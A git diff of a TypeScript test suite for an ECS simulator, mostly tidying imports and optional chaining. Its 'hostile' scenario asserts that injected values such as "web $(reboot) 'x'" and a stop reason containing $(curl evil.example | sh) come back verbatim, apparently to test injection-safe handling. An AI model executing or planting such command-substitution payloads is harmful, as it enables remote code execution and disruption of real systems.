@@ -18,8 +18,8 @@ import {
   type Service,
   type Task,
 } from '@aws-sdk/client-ecs';
-import { buildState, listScenarios, readScenario } from '../../sim/scenario';
-import { ManualClock, startSimulator, type Simulator } from '../../sim/server';
+import { buildState, listScenarios, readScenario } from '../../../sim/scenario';
+import { ManualClock, startSimulator, type Simulator } from '../../../sim/server';
 
 async function allTasks(ecs: ECSClient, cluster: string, desiredStatus: 'RUNNING' | 'STOPPED'): Promise<Task[]> {
   const arns: string[] = [];
@@ -79,7 +79,8 @@ describe('scenario: demo', () => {
     const versions = d.containerInstances!.map((c) => c.versionInfo!.agentVersion).sort();
     assert.deepEqual(versions, ['1.48.1', '1.86.3', '1.86.3']);
     assert.ok(d.containerInstances!.some((c) => c.status === 'DRAINING' && c.agentConnected === false));
-    const prod = (await ecs.send(new DescribeClustersCommand({ clusters: ['prod'], include: ['SETTINGS', 'CONFIGURATIONS'] }))).clusters![0];
+    const prod = (await ecs.send(new DescribeClustersCommand({ clusters: ['prod'], include: ['SETTINGS', 'CONFIGURATIONS'] }))).clusters?.[0];
+    assert.ok(prod);
     assert.equal(prod.configuration!.executeCommandConfiguration!.logging, 'OVERRIDE');
     assert.ok(prod.configuration!.executeCommandConfiguration!.kmsKeyId);
   });
@@ -88,13 +89,13 @@ describe('scenario: demo', () => {
     const web = services.find((s) => s.serviceName === 'web')!;
     assert.equal(web.runningCount, 3);
     assert.equal(web.desiredCount, 3);
-    assert.equal(web.deployments![0].rolloutState, 'COMPLETED');
+    assert.equal(web.deployments?.[0]?.rolloutState, 'COMPLETED');
     assert.ok(running.some((t) => t.healthStatus === 'UNHEALTHY' && t.containers!.some((c) => c.healthStatus === 'UNHEALTHY')));
     const api = services.find((s) => s.serviceName === 'api')!;
-    assert.equal(api.deployments![0].rolloutState, 'IN_PROGRESS');
-    assert.equal(api.deployments![0].runningCount, 1);
-    assert.equal(api.deployments![0].pendingCount, 1);
-    assert.equal(api.deployments![1].runningCount, 2);
+    assert.equal(api.deployments?.[0]?.rolloutState, 'IN_PROGRESS');
+    assert.equal(api.deployments?.[0]?.runningCount, 1);
+    assert.equal(api.deployments?.[0]?.pendingCount, 1);
+    assert.equal(api.deployments?.[1]?.runningCount, 2);
     const checkout = services.find((s) => s.serviceName === 'checkout')!;
     const failed = checkout.deployments!.find((d) => d.rolloutState === 'FAILED')!;
     assert.match(failed.rolloutStateReason!, /circuit breaker/);
@@ -177,7 +178,7 @@ describe('scenario: demo', () => {
   it('is deterministic: the same file gives the same ids', () => {
     const a = buildState(readScenario('demo'), 1_700_000_000_000);
     const b = buildState(readScenario('demo'), 1_700_000_000_000);
-    const ids = (s: typeof a) => [...s.ecs.clusters.values()].flatMap((c) => [...c.tasks.values()].map((t) => `${t.taskArn} ${t.containers![0].runtimeId}`));
+    const ids = (s: typeof a) => [...s.ecs.clusters.values()].flatMap((c) => [...c.tasks.values()].map((t) => `${t.taskArn} ${t.containers?.[0]?.runtimeId}`));
     assert.deepEqual(ids(a), ids(b));
   });
 });
@@ -194,13 +195,13 @@ describe('scenario: hostile', () => {
       const d = await ecs.send(new DescribeClustersCommand({ clusters: [name, weird] }));
       assert.equal(d.clusters!.length, 2);
       const svcs = (await ecs.send(new ListServicesCommand({ cluster: weird }))).serviceArns!;
-      assert.equal(svcs[0].split('/').pop(), "web $(reboot) 'x'");
+      assert.equal(svcs[0]?.split('/').pop(), "web $(reboot) 'x'");
       const tasks = await allTasks(ecs, name, 'RUNNING');
       assert.equal(tasks.length, 1);
       const long = arns.find((a) => /cluster\/c_a{253}$/.test(a));
       assert.ok(long, 'a 255-character cluster name');
       const stopped = await allTasks(ecs, long, 'STOPPED');
-      assert.match(stopped[0].stoppedReason!, /\$\(curl evil\.example \| sh\)/);
+      assert.match(stopped[0]?.stoppedReason ?? '', /\$\(curl evil\.example \| sh\)/);
     } finally {
       ecs.destroy();
       await sim.stop();
